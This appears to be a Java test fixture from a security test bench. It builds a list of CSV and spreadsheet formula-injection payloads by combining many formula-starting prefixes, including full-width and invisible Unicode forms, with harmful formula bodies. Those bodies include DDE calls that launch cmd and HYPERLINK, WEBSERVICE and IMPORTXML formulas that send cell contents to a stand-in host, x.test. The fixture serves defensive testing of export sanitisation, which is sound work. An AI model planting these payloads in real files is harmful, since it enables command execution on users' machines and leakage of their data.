package org.meridian.bench.security.exports;

import java.util.ArrayList;
import java.util.LinkedHashSet;
import java.util.List;
import java.util.Set;

/**
 * Formulas as attackers write them: every way to begin one (OWASP, CSV injection; full-width forms; what spreadsheets strip
 * before they look) with every way to do harm.
 */
final class Payloads {

    private static final List<String> BEGINNINGS = List.of(
            "=", "+", "-", "@", "==", "=+", "+-", "-+", "@=", " =", "  =", "\u00a0=", "\u200b=", "\ufeff=", "\uff1d",
            "\uff0b", "\uff0d", "\uff20", "\u2212", "|", "%", "\"=", "\"\"=", "';=", ";=", ",=", "\",=", "\";=",
            "\u3000=", "\u202e=");

    private static final List<String> HARM = List.of(
            "1+1",
            "cmd|' /C calc'!A0",
            "HYPERLINK(\"http://x.test?\"&A1,\"a\")",
            "WEBSERVICE(\"http://x.test/\"&A1)",
            "IMPORTXML(CONCAT(\"//x.test\",A1),\"//a\")",
            "DDE(\"cmd\";\"/C calc\";\"a\")",
            "SUM(A1:A9)*cmd|'/c'!A1",
            "INDIRECT(\"A\"&1)");

    private Payloads() {}

    /** All of them, each once, each short enough for a roster's field. */
    static List<String> all() {
        Set<String> all = new LinkedHashSet<>();
        for (String beginning : BEGINNINGS) {
            for (String harm : HARM) {
                all.add(beginning + harm);
            }
        }
        return new ArrayList<>(all);
    }
}
